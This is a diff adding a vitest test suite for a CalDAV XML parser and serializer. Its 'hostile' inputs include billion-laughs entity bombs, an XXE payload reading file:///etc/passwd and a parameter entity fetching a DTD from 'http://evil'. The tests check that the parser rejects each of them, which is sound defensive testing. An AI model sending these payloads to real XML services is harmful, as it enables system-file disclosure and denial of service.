@@ -1,0 +1,127 @@
+import { describe, expect, it } from 'vitest';
+import { ProtocolError } from '@cal/core';
+import { child, childText, children, descendants, escapeXml, parseXml, serializeXml, xml } from '@cal/core/xml';
+
+const MS = `<?xml version="1.0" encoding="utf-8"?>
+<!-- a comment -->
+<D:multistatus xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
+  <D:response>
+    <D:href>/cal/a%20b.ics</D:href>
+    <D:propstat><D:prop><D:getetag>"e1"</D:getetag>
+      <C:calendar-data><![CDATA[BEGIN:VCALENDAR
+END:VCALENDAR]]></C:calendar-data></D:prop>
+      <D:status>HTTP/1.1 200 OK</D:status></D:propstat>
+  </D:response>
+  <response xmlns="DAV:"><href>/x &amp; y</href><?pi skip?></response>
+</D:multistatus>`;
+
+describe('parseXml', () => {
+  it('resolves prefixes and default namespaces', () => {
+    const root = parseXml(MS);
+    expect(root).toMatchObject({ ns: 'DAV:', local: 'multistatus' });
+    const rs = children(root, 'DAV:', 'response');
+    expect(rs).toHaveLength(2);
+    expect(childText(rs[0], 'DAV:', 'href')).toBe('/cal/a%20b.ics');
+    expect(childText(rs[1], 'DAV:', 'href')).toBe('/x & y');
+    const data = descendants(root, 'urn:ietf:params:xml:ns:caldav', 'calendar-data')[0];
+    expect(data?.text).toBe('BEGIN:VCALENDAR\nEND:VCALENDAR');
+    expect(childText(child(child(rs[0], 'DAV:', 'propstat'), 'DAV:', 'prop'), 'DAV:', 'getetag')).toBe('"e1"');
+  });
+
+  it('handles attributes, namespaced attributes, char refs and self-closing tags', () => {
+    const el = parseXml(`<a xmlns:x="urn:x" k='v&lt;' x:z="1"><b/><c>&#65;&#x42;&#x1F600;</c></a>`);
+    expect(el.attrs).toEqual({ k: 'v<', '{urn:x}z': '1' });
+    expect(el.children.map((c) => c.local)).toEqual(['b', 'c']);
+    expect(el.children[1]!.text).toBe('AB😀');
+    expect(el.ns).toBe('');
+  });
+
+  it('scopes namespace declarations to the element', () => {
+    const el = parseXml('<a xmlns="urn:1"><b xmlns="urn:2"><c/></b><d/><e xmlns=""/></a>');
+    expect(el.children[0]!.children[0]!.ns).toBe('urn:2');
+    expect(el.children[1]!.ns).toBe('urn:1');
+    expect(el.children[2]!.ns).toBe('');
+  });
+
+  it('reads Xandikos-style URL-encoded hrefs and mistyped namespaces as plain data', () => {
+    const el = parseXml('<d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:carldav:"><c:x/></d:multistatus>');
+    expect(el.children[0]!.ns).toBe('urn:ietf:params:xml:ns:carldav:');
+  });
+
+  const hostile: [string, string][] = [
+    ['DOCTYPE', '<!DOCTYPE a><a/>'],
+    [
+      'billion laughs',
+      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
+        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
+    ],
+    ['XXE', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
+    ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><foo/>'],
+    ['undeclared entity', '<a>&nbsp;</a>'],
+    ['entity in attribute', '<a b="&xxe;"/>'],
+    ['NUL char ref', '<a>&#0;</a>'],
+    ['surrogate char ref', '<a>&#xD800;</a>'],
+    ['bare ampersand', '<a>fish & chips</a>'],
+    ['mismatched tags', '<a><b></a></b>'],
+    ['unclosed', '<a><b>'],
+    ['two roots', '<a/><b/>'],
+    ['text outside root', 'hello <a/>'],
+    ['unbound prefix', '<x:a/>'],
+    ['unquoted attribute', '<a b=c/>'],
+    ['duplicate attribute', '<a b="1" b="2"/>'],
+    ['HTML', '<html><body><p>Bad gateway<br></body></html>'],
+    ['empty', ''],
+    ['garbage', 'not xml at all'],
+    ['JSON', '{"error":"x"}'],
+  ];
+  for (const [name, body] of hostile) {
+    it(`rejects ${name} with ProtocolError`, () => {
+      expect(() => parseXml(body)).toThrow(ProtocolError);
+    });
+  }
+
+  it('rejects a huge billion-laughs payload fast, without expanding anything', () => {
+    const ents = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
+    const body = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">${ents}]><r>&l10;</r>`;
+    const t0 = performance.now();
+    expect(() => parseXml(body)).toThrow(/DTD/);
+    expect(performance.now() - t0).toBeLessThan(50);
+  });
+
+  it('enforces depth and node limits', () => {
+    const deep = '<a>'.repeat(300) + '</a>'.repeat(300);
+    expect(() => parseXml(deep)).toThrow(/deeper than 256/);
+    expect(parseXml('<a>'.repeat(10) + '</a>'.repeat(10), { maxDepth: 10 }).local).toBe('a');
+    expect(() => parseXml(`<a>${'<b/>'.repeat(20)}</a>`, { maxNodes: 10 })).toThrow(/more than 10 elements/);
+  });
+
+  it('is linear: parses a 5,000-response multistatus quickly', () => {
+    const resp = '<d:response><d:href>/c/x.ics</d:href><d:propstat><d:prop><d:getetag>"1"</d:getetag></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>';
+    const body = `<d:multistatus xmlns:d="DAV:">${resp.repeat(5000)}</d:multistatus>`;
+    const root = parseXml(body);
+    expect(root.children).toHaveLength(5000);
+  });
+});
+
+describe('serializeXml', () => {
+  it('round-trips with declared prefixes and escaping', () => {
+    const node = xml('DAV:', 'propfind', {}, [
+      xml('DAV:', 'prop', {}, [xml('DAV:', 'displayname'), xml('urn:ietf:params:xml:ns:caldav', 'comp', { name: 'VEVENT' })]),
+      xml('urn:other', 'note', { '{urn:other}lang': 'en' }, ['a < b & "c"']),
+    ]);
+    const text = serializeXml(node, { prefixes: { 'DAV:': 'd', 'urn:ietf:params:xml:ns:caldav': 'c' } });
+    expect(text).toContain('<d:propfind xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav" xmlns:ns0="urn:other">');
+    const back = parseXml(text);
+    expect(back.children[1]).toMatchObject({ ns: 'urn:other', local: 'note', attrs: { '{urn:other}lang': 'en' }, text: 'a < b & "c"' });
+    expect(back.children[0]!.children[1]!.attrs).toEqual({ name: 'VEVENT' });
+  });
+
+  it('supports a default namespace and still prefixes namespaced attributes', () => {
+    const text = serializeXml(xml('DAV:', 'a', { '{DAV:}x': '1' }), { prefixes: { 'DAV:': '' }, declaration: false });
+    expect(parseXml(text)).toMatchObject({ ns: 'DAV:', local: 'a', attrs: { '{DAV:}x': '1' } });
+  });
+
+  it('escapeXml escapes all five specials', () => {
+    expect(escapeXml(`<&>"'`)).toBe('&lt;&amp;&gt;&quot;&apos;');
+  });
+});
